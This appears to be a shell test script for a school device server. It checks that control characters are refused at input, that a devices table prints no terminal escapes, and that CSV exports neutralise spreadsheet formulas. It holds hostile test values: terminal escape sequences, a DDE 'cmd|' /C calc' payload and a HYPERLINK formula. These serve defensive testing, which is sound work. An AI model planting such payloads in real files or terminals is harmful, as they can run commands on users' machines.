#!/bin/sh
# Output injection, end to end (issue 10 item 5, CONTRACT 5.3): strings with a
# control character or an escaped \u0000 are refused at input (a session
# alone, not its batch; enroll and heartbeat fields with a 400 naming the
# field); a devices table with a hostile hostname already in the database
# prints no control byte; report CSVs keep formulas inert and codes text.
# Covers server/api_device.c ingest.c report.c, common/bbt_session.c.
. tests/server/lib.sh
srv school add 0012 "第十二小学" > /dev/null
tok=$(srv token create --school 0012 --uses 20 | tail -1)
start_server

# --- enrollment: hostname and room are checked, the field is named ----------
post_enroll() {	# BODY-FIELDS (raw JSON members after token)
	req POST /api/v1/enroll - -H 'Content-Type: application/json' \
	    --data-binary "{\"token\":\"$tok\",\"public_key\":\"$(pub)\",$1}"
}
expect 400 "$(post_enroll '"hw_id":"h1","hostname":"pc\u001b]0;owned\u0007","room":"r"')" \
	"enroll with ESC in hostname"
grep -q 'field \\"hostname\\" has a control character (U+001B)' "$T/reply" ||
	{ cat "$T/reply"; fail "hostname error names the field"; }
expect 400 "$(post_enroll '"hw_id":"h1","hostname":"pc","room":"1-2\u0000junk"')" \
	"enroll with an escaped NUL in room"
grep -q 'field \\"room\\" has an escaped NUL' "$T/reply" ||
	{ cat "$T/reply"; fail "room NUL error names the field"; }
expect 400 "$(post_enroll '"hw_id":"h1","hostname":"pc","room":"r\u0085"')" \
	"enroll with a C1 control in room"
grep -q 'U+0085' "$T/reply" || { cat "$T/reply"; fail "C1 in room"; }
# A formula in a hostname is text, not a control character: accepted (and
# neutralised in CSV below).
expect 201 "$(post_enroll '"hw_id":"h1","hostname":"=HYPERLINK(\"http://x/\"&A1)",
	"room":"1-2","agent_version":"1.10"')" "enroll"
dev=$(jget device_token); id=$(jget device_id)

# --- heartbeat: version and every string of the devices list ----------------
hb() { req POST /api/v1/heartbeat "$dev" -H 'Content-Type: application/json' \
	--data-binary "$1"; }
expect 400 "$(hb '{"version":"0.9\u001b[2J"}')" "heartbeat version with ESC"
grep -q 'field \\"version\\" has a control character' "$T/reply" || fail "version field"
expect 400 "$(hb '{"version":"0.9","devices":[{"name":"ok"},{"name":"IR\u001b[31m"}]}')" \
	"heartbeat device name with ESC"
grep -q 'field \\"devices\[1\].name\\" has a control character' "$T/reply" ||
	{ cat "$T/reply"; fail "device name field"; }
expect 400 "$(hb '{"devices":[{"label":"x","maker":"evil\u0000"}]}')" "escaped NUL in maker"
grep -q 'devices\[0\].maker\\" has an escaped NUL' "$T/reply" || { cat "$T/reply"; fail "NUL"; }
# --- sessions: the bad ones are rejected alone, with the reason -------------
python3 - > "$T/batch.json" <<'PY'
import json
def s(i, **kw):
    o = {"id": "00000000-0000-4000-8000-%012d" % i, "start": "2026-11-23T08:00:00+08:00",
         "end": "2026-11-23T08:40:00+08:00", "duration_s": 2400, "touches": 9,
         "active_minutes": 30, "teacher": None,
         "input": {"name": "IRTOUCH", "vid": "6615", "pid": "0070"}, "flags": []}
    o.update(kw)
    return o
ss = [s(1), s(2, teacher="T1@NUL@x"), s(3, id="00000000-0000-4000-8000-000000000003@NUL@j"),
      s(4, input={"name": "IR\x1b]0;owned\x07", "vid": "6615", "pid": "0070"}),
      s(5, teacher="\u009b31m")]
print(json.dumps({"agent_time": "2026-11-23T09:00:00+08:00", "sessions": ss})
      .replace("@NUL@", "\\u0000"))
PY
grep -q 'T1\\u0000x' "$T/batch.json" || fail "test batch has no escaped NUL"
expect 200 "$(req POST /api/v1/sessions "$dev" -H 'Content-Type: application/json' \
	--data-binary "@$T/batch.json")" "upload with bad strings"
python3 - "$T/reply" <<'PY' || fail "bad sessions not rejected alone"
import json, sys
r = json.load(open(sys.argv[1]))
assert r["accepted"] == ["00000000-0000-4000-8000-000000000001"], r
rej = r["rejected"]
assert len(rej) == 4, r
by = {x["id"]: x["error"] for x in rej}
assert 'field "teacher" has an escaped NUL' in by["00000000-0000-4000-8000-000000000002"], r
assert 'field "input.name" has a control character (U+001B)' in \
    by["00000000-0000-4000-8000-000000000004"], r
assert 'field "teacher" has a control character (U+009B)' in \
    by["00000000-0000-4000-8000-000000000005"], r
# the id cut at its NUL is not echoed as if it were the valid UUID before it
assert by[None].startswith('malformed: field "id" has an escaped NUL'), r
PY
n=$(bbtq "$DB" 'len(r)' sessions)
[ "$n" = 1 ] || fail "$n sessions stored, want 1"
n=$(bbtq "$DB" 'len([x for x in r if x["id"].endswith("0003")])' sessions)
[ "$n" = 0 ] || fail "the id cut at its NUL was stored"

# --- a devices table never prints a control byte ---------------------------
# A database written before this check may hold anything: put a hostile
# hostname, room and input name there directly (a fixture only the database
# can take: the product refuses such text at its door).
esc=$(printf '\033'); bel=$(printf '\007'); csi=$(printf '\302\233'); cr=$(printf '\r')
db_sql "$DB" "UPDATE devices SET hostname = 'pc$esc]0;owned$bel$esc[2J${csi}x',
	room = '三年级${cr}二班', input_devices = '[{\"name\":\"IR$esc[31mred\",\"touch\":true}]'"
srv devices > "$T/table"
python3 - "$T/table" <<'PY' || { cat -v "$T/table"; fail "control bytes in the devices table"; }
import sys
b = open(sys.argv[1], "rb").read()
bad = [c for c in b if (c < 0x20 and c != 0x0a) or c == 0x7f]
assert not bad, bad
t = b.decode("utf-8")
assert not any(0x80 <= ord(c) <= 0x9f for c in t), t
assert "pc\\x1b]0;owned\\x07\\x1b[2J\\u009bx" in t, t
assert "三年级\\x0d二班" in t, t
assert "IR\\x1b[31mred" in t, t
PY
# the same over JSON keeps the data (escaped by JSON itself)
srv devices --format json > "$T/dev.json"
python3 -c 'import json,sys; r = json.load(open(sys.argv[1]))[0]
assert r["hostname"].startswith("pc\x1b]0;owned"), r' "$T/dev.json" || fail "JSON data"

# --- CSV: formulas inert, codes text, our numbers numbers -------------------
# the agent's clock 120 s behind: a negative offset that must stay a number
behind=$(python3 -c 'import datetime as d; print((d.datetime.now(d.timezone.utc)
      - d.timedelta(seconds=120)).isoformat(timespec="seconds"))')
expect 200 "$(hb "{\"agent_time\":\"$behind\",\"version\":\"1.10\",\"buffer_depth\":0,
	\"devices\":[{\"name\":\"-2+3+cmd|' /C calc'!A0\",\"touch\":true}]}")" "good heartbeat"
settle

db_sql "$DB" "UPDATE devices SET hostname = '=HYPERLINK(\"http://x/\"&A1)', room = '1-2',
	input_devices = '[{\"name\":\"-2+3+cmd|'' /C calc''!A0\",\"touch\":true}]'"
printf 'school,room,weekday,start,end,teacher_id,teacher_name\n' > "$T/tt.csv"
printf '0012,1-2,1,08:00,08:45,007,"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0"\n' >> "$T/tt.csv"
srv timetable import "$T/tt.csv" > /dev/null
srv devices --format csv --lang en > "$T/devices.csv"
srv points --week 2026-W48 --explain --format csv --lang en > "$T/points.csv"
python3 - "$T/devices.csv" "$T/points.csv" "$id" <<'PY' || fail "CSV cells"
import csv, re, sys
def rows(p):
    raw = open(p, "rb").read()
    assert raw.startswith(b"\xef\xbb\xbf"), p
    return list(csv.DictReader(raw[3:].decode("utf-8").splitlines()))
FORMULA = tuple("=+-@\t\r\n")
def inert(v):	# what a spreadsheet would not run: not led by a formula char
    return not v.startswith(FORMULA) and not v.lstrip(" ").startswith(FORMULA)
d = rows(sys.argv[1])[0]
# Formulas become text led by ', which Excel shows as typed.
assert d["hostname"] == "'=HYPERLINK(\"http://x/\"&A1)", d
assert d["inputs"] == "'-2+3+cmd|' /C calc'!A0", d
# Codes that Excel would turn into numbers or dates carry a leading TAB:
# Excel keeps the cell as the text 0012, 1-2, 1.10 (an admin reads them so).
assert d["school"] == "\t0012" and d["room"] == "\t1-2" and d["agent_version"] == "\t1.10", d
assert d["device_id"].lstrip("\t") == sys.argv[3], d
# Our own negative number is a number, not guarded.
assert -130 <= int(d["clock_offset_s"]) <= -110, d
p = rows(sys.argv[2])
assert len(p) == 1, p
p = p[0]
assert p["teacher_id"] == "\t007" and p["school"] == "\t0012" and p["room"] == "\t1-2", p
assert p["teacher_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0", p
assert p["credited"] == "true" and p["duration_s"] == "2400", p
for r in [d, p]:
    for k, v in r.items():
        number = re.fullmatch(r"-?[0-9]+(\.[0-9])?", v) is not None
        assert number or inert(v) or v.startswith("\t") and v[1:2].isdigit(), (k, v)
PY
echo "server_injection: ok"
